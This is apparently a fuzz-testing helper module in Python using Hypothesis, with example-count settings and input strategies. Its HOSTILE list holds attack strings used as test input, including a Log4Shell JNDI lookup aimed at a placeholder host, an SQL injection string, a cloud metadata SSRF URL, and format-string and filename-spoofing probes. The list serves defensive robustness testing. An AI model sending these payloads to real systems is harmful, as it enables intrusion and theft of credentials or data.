"""How much the fuzzing tries: little in each run of the tests, much by hand (`make fuzz`).

What it has found stands beside each test as an `example`, so that it is tried for ever.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

LONG = int(os.environ.get("FUZZ_EXAMPLES", "0"))
"""Examples of each test; 0: as many as the test itself says."""


def tries(usual: int) -> Callable[[Any], Any]:
    """`usual`: examples where nobody asked for more."""
    return settings(
        max_examples=LONG or usual,
        deadline=None,
        suppress_health_check=list(HealthCheck),
        print_blob=True,
    )


HOSTILE = (
    "<!channel>",
    "<@U0000ANN1>",
    "*bold* _it_ `code` ```block```",
    "\u202egnp.exe",
    "\x00\x1b[31m\r\n",
    "\ud800",
    "&lt;&amp;",
    "{0.__class__}",
    "%(name)s%n",
    "${jndi:ldap://x.example/a}",
    "'; drop table events; --",
    "http://169.254.169.254/latest/meta-data/",
    "a" * 5000,
    "9" * 5000,
    "[" * 3000,
    "é" * 300,
    "xn--80ak6aa92e.example",
)
"""Pieces that have hurt other programs."""

WORDS = st.text(max_size=40) | st.sampled_from(HOSTILE)
NUMBERS = (
    st.integers()
    | st.floats()
    | st.sampled_from([10**30, -(10**30), 2**63, 1e308, -1, 0, 253402300800000])
)
ANYTHING = st.recursive(
    st.none() | st.booleans() | NUMBERS | WORDS,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(WORDS | st.just("mail"), inner, max_size=4)
    ),
    max_leaves=12,
)
"""Whatever JSON can say, and a little more."""
